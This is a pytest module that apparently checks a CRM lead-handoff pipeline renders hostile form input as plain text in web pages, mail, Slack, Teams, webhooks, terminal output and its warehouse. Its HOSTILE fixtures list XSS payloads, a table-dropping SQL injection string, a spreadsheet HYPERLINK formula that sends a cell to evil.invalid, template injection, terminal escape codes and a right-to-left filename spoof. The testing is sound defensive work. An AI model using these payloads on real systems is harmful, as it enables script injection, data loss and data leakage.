"""Whatever stands in a CRM is text: no page, message, terminal or file of ours takes it for more.

One run reads an export full of what people type into forms to see what happens, and alerts mail,
Slack, Teams and a webhook. Every output is read: what was typed is shown, and does nothing.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from contextlib import closing
from dataclasses import dataclass
from email.header import decode_header, make_header
from email.message import Message
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import dagster as dg
import pytest
import yaml
from typer.testing import CliRunner

from dagster_project.assets.checks import as_check_result
from dagster_project.commands import app as command_line
from dagster_project.config.plain_text import on_one_line
from dagster_project.config.settings import load_settings
from dagster_project.config.warehouse import connect, warehouse_path
from dagster_project.ingestion.files.settings import FilesSource
from expectations.catalogue import known_checks
from expectations.check import Outcome
from tests.alerting.receivers import HttpReceiver, MailReceiver, make_certificate, part
from tests.chromium import chromium
from tests.conftest import handoff

pytestmark = pytest.mark.starts_runs

AS_OF = "2026-06-30T00:00:00Z"
# Each is a lead's id, a stage, a reason, an owner and so on; as many as a message shows.
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "<!channel> <@U024BE7LH> &lt;b&gt;",
    "[x](javascript:alert(3)) *bold* `code`",
    '=HYPERLINK("http://evil.invalid/?"&A1)',
    "'; drop table build.fct_lead_cycles; --",
    "{{ 7 * 7 }}{% raw %}",
    "\x1b[31m[red]now[/red][/]\x9b32m\r\nhandoff: published",
    "\u202egpj.exe :warning:",
    "../../x: y # z ${HOME}",
)
FILE = "<img src=x onerror=alert(4)> {{ 7 }}'; --.csv"
HEADER = "<img src=x onerror=alert(5)>[bold] ${HOME} \"'; drop table raw.leads; --"


def write_export(directory: Path) -> None:
    """Leads that sales rejected without a reason; every text of them is hostile."""
    tables: dict[str, list[tuple[str, ...]]] = {
        "leads": [("lead_id", "created_at", "company", "lead_source", "owner_id", HEADER)],
        "changes": [("lead_id", "changed_at", "from_stage", "to_stage", "reason", "changed_by")],
        "opportunities": [("opportunity_id", "lead_id", "created_at", "amount", "owner_id")],
        "touches": [("lead_id", "kind", "occurred_at", "channel", "campaign")],
        "activities": [("lead_id", "kind", "occurred_at", "rep_id")],
        "reps": [("rep_id", "name", "role", "team", "timezone")],
    }
    for at, text in enumerate(HOSTILE):
        lead = (text, f"2026-06-0{at % 9 + 1}T08:00:00Z", text, text, text, text)
        tables["leads"].append(lead)
        tables["changes"] += [
            (text, "2026-06-12T08:00:00Z", "lead", "MQL", "", text),
            (text, "2026-06-13T08:00:00Z", "MQL", text, text, text),
            (text, f"2026-06-14T08:00:{at:02}Z", "MQL", "Rejected", "", text),
            # A row that can't be used, for each.
            (text, text, "MQL", "Rejected", text, text),
        ]
        tables["leads"].append((f"L-{at}", "2026-06-01T08:00:00Z", text, text, text, text))
        tables["changes"] += [
            (f"L-{at}", "2026-06-12T08:00:00Z", "lead", "MQL", "", text),
            (f"L-{at}", "2026-06-13T08:00:00Z", "MQL", "Rejected", text, text),
        ]
        tables["opportunities"].append((text, text, "2026-06-12T08:00:00Z", text, text))
        tables["touches"].append((text, text, "2026-06-10T08:00:00Z", text, text))
        tables["activities"].append((text, text, "2026-06-13T08:00:00Z", text))
        tables["reps"].append((text, text, text, text, text))
    names = {"changes": "stage_changes.csv", "touches": FILE}
    directory.mkdir()
    for name, rows in tables.items():
        with (directory / names.get(name, f"{name}.csv")).open("w", newline="") as file:
            csv.writer(file).writerows(rows)


@dataclass(frozen=True)
class Done:
    """What the run left: its output, what it printed, and what it sent."""

    output: Path
    config: Path
    printed: str
    posts: dict[str, list[dict[str, Any]]]
    mails: list[Message]

    def says(self, *arguments: str | Path) -> str:
        """What a command prints, run in this process."""
        line = [*map(str, arguments), "--config", str(self.config)]
        return CliRunner().invoke(command_line.app, line, catch_exceptions=False).output

    def posted_to(self, host: str) -> list[dict[str, Any]]:
        """What was posted to a host."""
        return [post for name, posts in self.posts.items() if host in name for post in posts]


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Done:
    """One run for all."""
    place = tmp_path_factory.mktemp("hostile")
    write_export(place / "export")
    certificate = make_certificate(place / "certificate.pem")
    with (
        closing(MailReceiver()) as mail,
        closing(HttpReceiver(certificate=certificate)) as receiver,
    ):
        urls = {
            "HOOK": receiver.url,
            "MAIL": mail.url,
            "SLACK": "slack://T1JJ3T3L2/A1BRTD4JD/TIiajkdnlazkcOXrIdevi7?verify=no",
            "TEAMS": "workflow://prod-1.westeurope.logic.azure.com/abcdef/ghijkl?verify=no",
        }
        config = place / "handoff.yml"
        source = {"kind": "files", "name": "crm", "path": "export"}
        source["tables"] = {"engagements": {"file": FILE}}
        channels = {name.lower(): {"url_env": f"TEST_{name}_URL"} for name in urls}
        config.write_text(
            yaml.safe_dump(
                {
                    "warehouse": {"output": "output"},
                    "sources": [source],
                    "crm_links": {"lead": "https://crm.example.com/lead/{lead_id}"},
                    "alerts": {
                        "channels": channels,
                        "data_docs_url": "https://docs.example.com/index.html",
                        "report_url": "https://docs.example.com/report/",
                    },
                }
            )
        )
        ran = handoff(
            *("run", "--config", config, "--as-of", AS_OF, "--audit", "warn", "--verbose"),
            # What is meant for Slack and Microsoft ends here.
            https_proxy=f"http://127.0.0.1:{receiver.port}",
            no_proxy="",
            **{f"TEST_{name}_URL": url for name, url in urls.items()},
        )
    assert ran.returncode == 0, ran.stderr
    return Done(place / "output", config, ran.stdout + ran.stderr, receiver.posts, mail.messages)


def assert_no_control(text: str) -> None:
    """No sign acts on a terminal: none moves the cursor, colours, or turns the direction."""
    acting = {sign for sign in text if unicodedata.category(sign) in {"Cc", "Cf"}} - {"\n"}
    assert not acting


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.links: list[str] = []
        self.text = self.policy = ""

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if ("http-equiv", "Content-Security-Policy") in attributes:
            self.policy = dict(attributes)["content"] or ""
        self.links += [value or "" for name, value in attributes if name in {"href", "src"}]
        assert not [name for name, _ in attributes if name.startswith("on")]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_pages_show_the_text_and_do_nothing(
    done: Done, tmp_path_factory: pytest.TempPathFactory
) -> None:
    pages = sorted(done.output.rglob("*.html"))
    assert len(pages) > 5
    shown = ""
    with chromium(tmp_path_factory.mktemp("chromium")) as browser:
        phone = {"width": 390, "height": 800, "deviceScaleFactor": 1, "mobile": True}
        browser.ask("Emulation.setDeviceMetricsOverride", **phone)
        for path in pages:
            page = browser.open(path)
            assert page.deeds == [], path
            shown += page.text
            if path.parent.name == "data_docs":
                wide = browser.ask("Runtime.evaluate", expression="document.body.scrollWidth")
                assert wide["result"]["value"] <= phone["width"], path
                html = _Tags()
                html.feed(path.read_text("utf-8"))
                assert "script-src 'none'" in html.policy
                assert "script" not in html.tags
                assert all(re.match(r"https://crm\.|\w+\.html", link) for link in html.links)
    for text in HOSTILE:
        assert (text if text.isprintable() else repr(text)[1:-1]) in shown


def test_mail_is_text(done: Done) -> None:
    shown, links = "", []
    for mail in done.mails:
        html = _Tags()
        html.feed(part(mail, "text/html"))
        assert html.tags <= {"div", "p", "strong", "em", "br", "ul", "li", "a"}
        assert all(link.startswith(("https://crm.", "https://docs.")) for link in html.links)
        assert len(str(mail["Subject"]).splitlines()) == 1
        assert_no_control(str(make_header(decode_header(str(mail["Subject"])))) + html.text)
        shown += html.text
        links += html.links
    for text in HOSTILE:
        assert _sent(text) in shown
    assert any("/report/definitions.html#check-" in link for link in links)


def _sent(text: str) -> str:
    """A text in a message: what can't be seen is written out, and nobody is called."""
    return on_one_line(text).replace(r"\n", " ").replace("@", "＠")


def test_slack_gets_no_markup_of_others(done: Done) -> None:
    shown = ""
    for post in done.posted_to("hooks.slack.com"):
        (message,) = post["attachments"]
        assert_no_control(message["title"] + message["text"])
        # What Slack reads as a call or a link stands in angle brackets: links of ours do.
        opened = (message["title"] + message["text"]).split("<")[1:]
        assert all(link.startswith(("https://crm.", "https://docs.")) for link in opened)
        shown += message["text"]
    assert "&lt;!channel&gt; &lt;＠U024BE7LH&gt; &amp;lt;b&amp;gt;" in shown
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown


def test_teams_gets_no_markup_of_others(done: Done) -> None:
    shown = ""
    for post in done.posted_to("logic.azure.com"):
        card = post["attachments"][0]["content"]
        assert "entities" not in card["msteams"]
        title, body = (block["text"] for block in card["body"] if "text" in block)
        assert_no_control(title + body)
        assert not set(title) & set("<>[]`*")
        shown += body
    assert r"\[x\]\(javascript:alert\(3\)\) \*bold\* \`code\`" in shown
    assert r"\<script\>" in shown


def test_webhook_gets_no_markup_of_others(done: Done) -> None:
    for post in done.posted_to("127.0.0.1"):
        assert_no_control(post["title"] + post["message"])
        assert not set("<>[]`*") & set(post["title"] + post["message"])
    assert any("‹script›alert(1)‹/script›" in post["message"] for post in done.posted_to("127."))


def test_terminal_shows_text(done: Done) -> None:
    said = [
        done.printed,
        done.says("status"),
        done.says("status", "--json"),
        done.says("alerts", "list"),
        *(done.says("alerts", "show", str(number)) for number in (1, 2, 3)),
        done.says("alerts", "send", "--dry-run"),
        done.says("doctor"),
    ]
    for text in HOSTILE:
        page = done.says("explain", text)
        first = page.splitlines()[0]
        assert first == f"Lead {on_one_line(text)} of crm"
        said.append(page)
    for page in said:
        assert_no_control(page)


def test_errors_are_one_line(
    done: Done, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    wanted = "no such\r\x1b[2Kall is well\nhandoff: published"
    arguments = ["handoff", "explain", wanted, "--config", str(done.config)]
    monkeypatch.setattr("sys.argv", arguments)
    with pytest.raises(SystemExit):
        command_line.main()
    printed = capsys.readouterr().err
    assert printed.count("\n") == 1
    assert_no_control(printed)


def test_written_configurations_read_back(done: Done, tmp_path: Path) -> None:
    stages = tmp_path / "stages.yml"
    done.says("doctor", "--write-stage-map", stages)
    written = stages.read_text("utf-8")
    assert_no_control(written)
    # Its comments filled in, it maps each stage as it is.
    filled = written.replace("      # ", "      ").replace("<stage>", "nurture")
    whole = tmp_path / "handoff.yml"
    whole.write_text(filled.replace("    kind: files", "    kind: files\n    path: ."), "utf-8")
    source = load_settings(whole).sources[0]
    assert isinstance(source, FilesSource)
    assert set(source.stage_names) == {text.strip() for text in HOSTILE}

    proposed = tmp_path / "proposed.yml"
    CliRunner().invoke(
        command_line.app,
        ["init", "--from", str(done.config.parent / "export"), "--out", str(proposed)],
        catch_exceptions=False,
    )
    assert_no_control(proposed.read_text("utf-8"))
    source = load_settings(proposed).sources[0]
    assert isinstance(source, FilesSource)
    assert source.tables["engagements"].file == [FILE]


def test_the_warehouse_has_each_text_as_it_is(done: Done) -> None:
    with connect(warehouse_path(done.output), read_only=True) as warehouse:
        leads = {
            lead for (lead,) in warehouse.execute("select lead_id from build.dim_leads").fetchall()
        }
    assert leads == {*HOSTILE, *(f"L-{at}" for at in range(len(HOSTILE)))}


def test_no_file_is_named_by_a_text(done: Done) -> None:
    beside = {path.name for path in done.config.parent.iterdir()}
    assert beside == {"export", "output", "handoff.yml", "certificate.pem"}
    names = [path.name for path in done.output.rglob("*")]
    assert not [name for name in names if set(name) & set("<>{}[]$\x1b\u202e'\"")]


def test_dagster_shows_failing_cases_without_markup() -> None:
    keys = ({"lead_id": "![](http://evil.invalid/x.png) | <b>", "cycle_number": 1},)
    outcome = Outcome(next(iter(known_checks().values())), "warned", 1.0, 1, 1, keys=keys)
    metadata = as_check_result([outcome], Path("index.html")).metadata
    shown = metadata["failing keys"]
    assert isinstance(shown, dg.TableMetadataValue)
    assert shown.records[0].data == {name: str(value) for name, value in keys[0].items()}
    assert not [
        name for name, value in metadata.items() if isinstance(value, dg.MarkdownMetadataValue)
    ]
